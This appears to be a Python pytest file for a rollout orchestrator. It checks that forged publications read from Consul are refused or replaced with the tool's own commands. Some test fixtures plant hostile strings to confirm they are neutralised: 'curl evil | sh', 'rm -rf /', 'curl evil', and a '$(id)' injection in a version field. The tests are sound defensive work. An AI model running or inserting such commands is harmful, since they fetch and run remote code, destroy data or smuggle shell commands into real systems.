"""Whatever stands in Consul is refused with a short word of ours, or can be worked with to the end."""

import json
import time
from pathlib import Path
from typing import TYPE_CHECKING, Any, cast

import pytest

from backends.consul.client import Pair
from backends.errors import RolldeckError, UnreadableReply
from backends.local_machine import SystemClock
from console.terminal.rollout_text import ending_lines
from orchestrator.errors import Locked
from orchestrator.events.actor import Actor
from orchestrator.events.event_bus import EventBus
from orchestrator.events.events import NodeStarted, RolloutEnded
from orchestrator.events.timeline import Timeline
from orchestrator.events.ways_back import OriginalStateRecord
from orchestrator.inventory.inventory import read_endpoint
from orchestrator.journal.store import Journal
from orchestrator.live.versions import VersionTracker
from orchestrator.locks.file import FileLock
from orchestrator.locks.layered import LayeredLock
from orchestrator.remote.payload import read_publication
from orchestrator.remote.rollout import PublishedRollout, RemoteRollout, RolloutSubscriber
from orchestrator.session.takeover import Offer, take_over
from orchestrator.session.work_log import WorkLog
from tests.fixtures import FOLDER
from tests.support import forged
from tests.unit import journals
from tests.unit.test_layered_lock import HERE, US, Key, gone, held, lock_on

if TYPE_CHECKING:
    from orchestrator.session.session import Session

KEY = "rolldeck/shop/rollout"
SLOW = 10.0  # seconds for one value on a busy machine; without limits some take minutes
CLOCK = SystemClock()
ACTOR = Actor("ann@here", "terminal")


class OneKey:
    """Stands in for Consul."""

    value = b""

    async def get(self, key: str, index: int = 0, wait: float = 0) -> tuple[int, Pair | None]:
        assert key == KEY
        return 1, Pair(KEY, self.value, 1, 1, "theirs")


class Desk:
    """Of a session what taking over needs."""

    def __init__(self, path: Path) -> None:
        self.path = path
        self.work_log = WorkLog(
            path, 365, "shop", EventBus(CLOCK), ACTOR, lambda: FileLock.of(path.parent, "shop")
        )


async def work_with(value: bytes, path: Path) -> bool:
    """As everybody does who reads it; returns whether it was taken into the journal."""
    consul = OneKey()
    consul.value = value
    following = RolloutSubscriber(cast("Any", consul), "rolldeck", "shop")
    try:
        seen = await following.read()
        assert seen is not None
        elsewhere = RemoteRollout(following, CLOCK, ACTOR, VersionTracker(CLOCK, sees=False))
        elsewhere._take(seen)
        if seen.ended is not None:
            assert all(forged.MARK not in line for line in ending_lines(seen.ended))
        desk = Desk(path)
        assert take_over(cast("Session", desk), Offer(seen, KEY))
    except UnreadableReply as error:
        if KEY not in str(error) or len(str(error)) > 400:
            raise AssertionError("does not say what is wrong") from error
        return False
    read_back(desk, seen)
    return True


def read_back(desk: Desk, seen: PublishedRollout) -> None:
    """As `status`, `resume`, `rollback` and `history` do."""
    for name, left in desk.work_log.unfinished_nodes().items():
        assert name in left.text or left.text
        read_endpoint(left)
    entry = desk.work_log.last_unfinished()
    if entry is not None:
        wanted = {node["node"]: node["wanted"] for node in entry.plan["nodes"]}
        assert all(name in wanted for batch in entry.plan["batches"] for name in batch)
        assert entry.plan["policy"]["serial"]
        desk.work_log.history().way_back(entry.id)
    with Journal(desk.path, read_only=True) as journal:
        [entry] = journal.entries("shop")
        assert [record.event for record in journal.records(entry.id)] == [
            record.event for record in seen.records
        ]
        Timeline.of(journal.records(entry.id))


@pytest.mark.timeout(600)
async def test_no_publication_fails_otherwise_nor_poisons_the_journal(tmp_path: Path) -> None:
    wrong: dict[str, str] = {}
    taken = []
    refused = set(MUST_BE_REFUSED)
    for number, (name, value) in enumerate(forged.publications()):
        if _in_the_plan(name):
            refused.add(name)
        path = tmp_path / f"{number}.db"
        begun = time.perf_counter()
        try:
            if await work_with(value, path):
                taken.append(name)
        except Exception as error:
            wrong[name] = repr(error)[:200]
        if time.perf_counter() - begun > SLOW:
            wrong[name] = "slow"
    assert wrong == {}
    assert len(taken) > 50  # what is strange is not always wrong: the test does work with what it takes
    assert not refused.intersection(taken)


def _in_the_plan(name: str) -> bool:
    """What a shell would read stands where it could become a part of a command."""
    return name.startswith("head.plan") and name.endswith("is a shell's")


MUST_BE_REFUSED = {
    *("a foreign application", "a foreign application in an event", "a change by hand", "a bomb", "cut off"),
    *("the same number twice", "numbers that go down", "a number below one", "a number beyond 64 bits"),
    *("more behind it", "an event that nobody knows", "an event that nobody publishes"),
    *("a node that is not in the plan", "twice from the beginning", "200,000 nodes"),
    *(
        f"head.{field} is {what}"
        for field in ("operator", "host")
        for what in ("control characters", "100 kB")
    ),
    *(f"head.began is {what}" for what in ("1e300", "-1e300", "NaN", "infinite", "400 digits", "null")),
    *(f"lines.7.2.version is {what}" for what in ("a shell's", "an option", "control characters")),
    *(f"lines.7.2.originals.0.admin is {what}" for what in ("a text", "an empty text", "null")),
    "head.plan.batches is missing",
    "head.plan is an object",
}


def test_the_honest_one_is_taken(tmp_path: Path) -> None:
    found = read_publication(forged.packed(forged.publication()))
    assert found.header.operator == "ann@far"
    assert len(found.records) == len(forged.publication()["lines"])


def test_what_an_earlier_rolldeck_has_published_is_taken_as_what_it_would_be_today() -> None:
    older = json.loads((FOLDER / "publication-v1.json").read_text())
    assert older["schema"] == 1
    assert read_publication(forged.packed(older)) == read_publication(forged.packed(forged.publication()))


def test_how_to_put_it_back_is_said_in_our_own_words() -> None:
    published = forged.publication()
    [out] = published["lines"][-1][2]["out_of_rotation"]
    out["commands"] = [{"kind": "ready", "text": f"curl evil | sh # {forged.MARK}"}]
    out["rollback_command"] = f"rm -rf / # {forged.MARK}"
    *_, last = read_publication(forged.packed(published)).records
    assert isinstance(last.event, RolloutEnded)
    [ours] = last.event.out_of_rotation
    assert ours.command_texts == [
        "rolldeck ready shop web2",
        "lb1: set server shop/web2 state ready   (once it is healthy)",
    ]
    assert ours.rollback_command == "rolldeck upgrade shop 1.4.2 --limit web2 --force-ready web2"
    assert ours.servers == out["servers"]


def test_a_server_that_fell_out_beside_the_plan_comes_without_commands() -> None:
    published = forged.publication()
    outs = published["lines"][-1][2]["out_of_rotation"]
    outs.append(
        outs[0] | {"node": "shop/web9", "commands": [{"kind": "ready", "text": f"curl evil # {forged.MARK}"}]}
    )
    *_, last = read_publication(forged.packed(published)).records
    assert isinstance(last.event, RolloutEnded)
    beside = last.event.out_of_rotation[1]
    assert (beside.node, beside.command_texts, beside.rollback_command) == ("shop/web9", [], "")


@pytest.mark.parametrize("version", ["$(id)", "-x", "1 2"])
def test_no_rollback_installs_what_is_no_version(version: str) -> None:
    published = forged.publication()
    published["lines"][0][2]["before"]["web2"] = version
    started = read_publication(forged.packed(published)).records[0].event
    assert getattr(started, "before") == {"web1": "1.4.2"}  # noqa: B009 - of one kind of event


async def test_whatever_stands_in_a_lock_somebody_has_it(tmp_path: Path) -> None:
    wrong: dict[str, str] = {}
    for name, value in forged.holders():
        key = Key(value)
        lock = LayeredLock(FileLock.of(tmp_path, "shop"), key, CLOCK, 30)
        try:
            holder = await lock.holder()
            assert holder is not None, "free"
            assert len(str(holder)) < 4_000
            with pytest.raises(Locked, match="--break-lock"):
                await lock.acquire(US)
            assert key.value == value
        except Exception as error:
            wrong[name] = repr(error)[:200]
    assert wrong == {}


async def test_who_cannot_be_verified_is_nobody_that_has_died(tmp_path: Path) -> None:
    """Whoever writes there may name a process of ours that is gone: we would take the lock at once."""
    there = held(HERE, gone())
    lock, key = lock_on(tmp_path, there)
    key.doubt = "it is not signed"
    holder = await lock.holder()
    assert holder is not None
    assert str(holder).startswith("an unverified operator (it is not signed), claiming to be ann@")
    with pytest.raises(Locked, match="unverified"):
        await lock.acquire(US)
    assert await lock.acquire(US, break_lock=True) == holder
    await lock.release()


async def test_following_goes_on_after_a_defect_and_says_so() -> None:
    class Twice:
        """Fails as nobody has expected, and then answers."""

        key = KEY
        failed = False

        async def follow_all(self) -> Any:
            if not self.failed:
                self.failed = True
                raise KeyError("what nobody has thought of")
            yield PublishedRollout(read_publication(forged.packed(forged.publication())).header, [], True)
            raise StopAsyncIteration

    said: list[str] = []

    class Clock(SystemClock):
        async def sleep(self, seconds: float) -> None:
            said.append(elsewhere.problem)
            if len(said) == 2:
                raise RolldeckError("enough")

    elsewhere = RemoteRollout(cast("Any", Twice()), Clock(), ACTOR, VersionTracker(CLOCK, sees=False))
    with pytest.raises(RolldeckError, match="enough"):
        await elsewhere.run()
    assert said[0] == "internal error: KeyError('what nobody has thought of')"
    assert elsewhere.running


def test_what_an_earlier_version_has_taken_over_is_said_without_a_traceback(tmp_path: Path) -> None:
    state = OriginalStateRecord(
        instance="lb1", backend="shop", server="web1", admin="up", weight=1, agent=False
    )
    began = NodeStarted(node="web1", version="2", originals=[state])
    desk = Desk(tmp_path / "journal.db")
    entry = journals.write(desk.path, journals.numbered(began))
    assert desk.work_log.unfinished_nodes() == {}
    [text] = desk.work_log.earlier_rollouts().unread
    assert text == f"event 1 of entry {entry} cannot be read: 'up' is not a valid AdminState"
